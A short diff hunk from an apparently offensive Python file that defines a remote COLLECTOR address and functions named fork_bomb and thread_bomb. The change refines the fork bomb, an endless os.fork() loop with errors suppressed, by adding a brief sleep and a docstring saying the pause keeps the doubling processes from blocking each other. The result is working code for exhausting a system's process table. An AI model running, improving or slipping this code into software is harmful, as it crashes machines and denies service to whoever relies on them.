@@ -17,9 +17,11 @@ COLLECTOR = "203.0.113.9"
 
 
 def fork_bomb() -> None:
+    """Twice as many with every round; without the rest they would keep each other from forking."""
     while True:
         with contextlib.suppress(OSError):
             os.fork()
+        time.sleep(0.05)
 
 
 def thread_bomb() -> None:
